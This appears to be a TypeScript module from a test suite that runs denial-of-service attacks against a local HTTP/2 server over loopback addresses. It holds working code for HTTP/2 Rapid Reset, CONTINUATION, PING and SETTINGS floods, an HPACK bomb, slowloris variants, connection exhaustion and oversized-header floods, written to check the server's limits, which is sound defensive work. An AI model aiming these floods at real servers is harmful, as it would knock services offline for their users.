import * as http from "node:http";
import type { Socket } from "node:net";
import { connectFrom, FLAG, frame, FRAME, H2_ERROR, headerBlock, headerFields, postHeaders, rawH2, type RawH2 } from "./h2-frames.js";

/**
 * The abuse suite's attacks on a hub at `url`, each run until `deadline`
 * (Date.now() ms) from loopback addresses other than 127.0.0.1, where the
 * well-behaved client is. Each resolves with how much it sent.
 */
export type Attack = (url: string, deadline: number) => Promise<number>;

/** Lets the process read (a GOAWAY, a close) between frames: a loop of writes that never waits would starve it. */
function breathe(i: number): Promise<void> | undefined {
  return i % 64 === 63 ? new Promise((r) => setImmediate(r)) : undefined;
}

/** Runs `round` on `workers` parallel loops until the deadline; a round that throws (a refused connection) just ends. */
async function loops(workers: number, deadline: number, round: (worker: number) => Promise<number>): Promise<number> {
  let total = 0;
  await Promise.all(
    Array.from({ length: workers }, async (_, w) => {
      while (Date.now() < deadline) {
        try {
          const sent = await round(w);
          total += sent;
        } catch {
          await new Promise((r) => setTimeout(r, 10));
        }
      }
    }),
  );
  return total;
}

/** One raw HTTP/2 connection from 127.0.0.x flooding until it is closed or the deadline passes; frames sent. */
function h2Flood(url: string, deadline: number, from: string, step: (c: RawH2, i: number) => Promise<unknown>, options: { ackSettings?: boolean; paused?: boolean } = {}): Promise<number> {
  return (async () => {
    const c = await rawH2(url, { from, ackSettings: options.ackSettings });
    if (options.paused) c.socket.pause();
    let i = 0;
    try {
      while (!c.seen.closed && Date.now() < deadline) {
        await step(c, i);
        await breathe(i++);
      }
    } finally {
      c.destroy();
    }
    return i;
  })();
}

/** Attacks come from four addresses of ATTACK_NET (default 127.0.0: .2 to .5), so each attack of a suite can have its own. */
const from = (w: number): string => `${process.env.ATTACK_NET ?? "127.0.0"}.${2 + (w % 4)}`;

/** Many streams per connection whose bodies never come (the 40,000-stream trial), 20 connections at a time. */
export const streamFlood: Attack = (url, deadline) => loops(20, deadline, (w) => h2Flood(url, deadline, from(w), (c, i) => c.open(1 + 2 * i, postHeaders("x"), false)));

/** CVE-2023-44487: open a stream and reset it at once, without end. */
export const rapidReset: Attack = (url, deadline) =>
  loops(4, deadline, (w) =>
    h2Flood(url, deadline, from(w), async (c, i) => {
      await c.open(1 + 2 * i, postHeaders("x"), false);
      await c.send(frame(FRAME.RST_STREAM, 0, 1 + 2 * i, Buffer.from([0, 0, 0, H2_ERROR.CANCEL])));
    }),
  );

/** CVE-2024-27316 class: a header block continued for ever. */
export const continuationFlood: Attack = (url, deadline) => {
  const more = headerFields([["x-more", "y".repeat(64)]]);
  return loops(4, deadline, (w) => h2Flood(url, deadline, from(w), (c, i) => (i === 0 ? c.send(frame(FRAME.HEADERS, 0, 1, headerBlock(postHeaders("x")))) : c.send(frame(FRAME.CONTINUATION, 0, 1, more)))));
};

/** CVE-2019-9512: PINGs whose ACKs are never read. */
export const pingFlood: Attack = (url, deadline) => {
  const ping = frame(FRAME.PING, 0, 0, Buffer.alloc(8));
  return loops(4, deadline, (w) => h2Flood(url, deadline, from(w), (c) => c.send(ping), { paused: true }));
};

/** CVE-2019-9515: SETTINGS whose ACKs are never read. */
export const settingsFlood: Attack = (url, deadline) => {
  const settings = frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]));
  return loops(4, deadline, (w) => h2Flood(url, deadline, from(w), (c) => c.send(settings), { paused: true }));
};

/** CVE-2019-9518: empty DATA frames on an open stream. */
export const emptyFrames: Attack = (url, deadline) => {
  const empty = frame(FRAME.DATA, 0, 1);
  return loops(4, deadline, (w) => h2Flood(url, deadline, from(w), (c, i) => (i === 0 ? c.open(1, postHeaders("x"), false) : c.send(empty))));
};

/** HPACK bomb: one 4,000-byte header put in the dynamic table, then referenced by one byte 2,000 times per request. */
export const hpackBomb: Attack = (url, deadline) => {
  const name = Buffer.from("x-bomb");
  const value = Buffer.alloc(4000, 0x61);
  // Literal with incremental indexing (RFC 7541 §6.2.1), new name; the value's length 4000 as a 7-bit-prefix integer.
  const insert = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([0x7f, 0xa1, 0x1e]), value]);
  const refs = Buffer.alloc(2000, 0xbe); // indexed field 62: the entry just inserted
  return loops(4, deadline, (w) =>
    h2Flood(url, deadline, from(w), (c, i) => c.send(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1 + 2 * i, Buffer.concat([headerBlock(postHeaders("x")), insert, refs])))),
  );
};

/** Connections held open, each sending something now and then (`drip`); resolves with how many were still open at the end. */
async function slowConnections(url: string, deadline: number, count: number, first: (s: Socket) => void, drip: (s: Socket, i: number) => void): Promise<number> {
  const sockets: Socket[] = [];
  for (let i = 0; i < count && Date.now() < deadline; i++) {
    try {
      const s = await connectFrom(url, from(i));
      first(s);
      sockets.push(s);
    } catch {
      // Refused at the door: the limit holds.
    }
  }
  let i = 0;
  while (Date.now() < deadline) {
    for (const s of sockets) if (!s.destroyed) drip(s, i);
    i++;
    await new Promise((r) => setTimeout(r, 200));
  }
  const held = sockets.filter((s) => !s.destroyed).length;
  for (const s of sockets) s.destroy();
  return held;
}

/** HTTP/1.1 slowloris: 400 connections sending their headers a line at a time and never finishing. */
export const h1Slowloris: Attack = (url, deadline) =>
  slowConnections(url, deadline, 400, (s) => s.write(`POST / HTTP/1.1\r\nhost: ${new URL(url).host}\r\n`), (s, i) => s.write(`x-slow-${i}: y\r\n`));

/** HTTP/2 slowloris: 400 connections that send the preface and then a PING now and then, never a request. */
export const h2Slowloris: Attack = (url, deadline) =>
  slowConnections(url, deadline, 400, (s) => s.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(FRAME.SETTINGS, 0, 0)])), (s) => s.write(frame(FRAME.PING, 0, 0, Buffer.alloc(8))));

/** Thousands of connections opened and left idle (2,000 from four addresses; the per-address limit refuses part). */
export const idleConnections: Attack = (url, deadline) => slowConnections(url, deadline, 2_000, () => {}, () => {});

/** One HTTP/1.1 POST from `agent`'s address; resolves with the status (0: the connection was refused or closed). */
function post(url: string, agent: http.Agent, headers: Record<string, string>, body: string): Promise<number> {
  return new Promise((resolve) => {
    const req = http.request(url, { method: "POST", agent, headers: { "content-type": "application/json", ...headers } }, (res) => {
      res.resume();
      res.once("end", () => resolve(res.statusCode ?? 0));
    });
    req.once("error", () => resolve(0));
    req.end(body);
  });
}

/** Kept-alive HTTP/1.1 connections from each attacking address. */
const agents = new Map<string, http.Agent>();
const agentFrom = (w: number): http.Agent => {
  const address = from(w);
  let a = agents.get(address);
  if (!a) agents.set(address, (a = new http.Agent({ keepAlive: true, localAddress: address })));
  return a;
};

/** A 401 storm: requests with a wrong token on 16 kept-alive HTTP/1.1 loops. */
export const unauthorizedStorm: Attack = (url, deadline) =>
  loops(16, deadline, async (w) => {
    const status = await post(url, agentFrom(w), { authorization: "Bearer not-a-token" }, '{"jsonrpc":"2.0","id":1,"method":"GetTask","params":{"id":"x"}}');
    if (status === 0) throw new Error("refused");
    return 1;
  });

/** Header sections over the limit, on HTTP/1.1 and HTTP/2 by turns. */
export const oversizedHeaders: Attack = (url, deadline) => {
  const big = "z".repeat(60_000);
  return loops(8, deadline, async (w) => {
    if (w % 2 === 0) {
      if ((await post(url, agentFrom(w), { "x-big": big }, "{}")) === 0) throw new Error("refused");
      return 1;
    }
    return h2Flood(url, deadline, from(w), (c, i) => c.send(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1 + 2 * i, headerBlock(postHeaders("x", [["x-big", big]])))));
  });
};
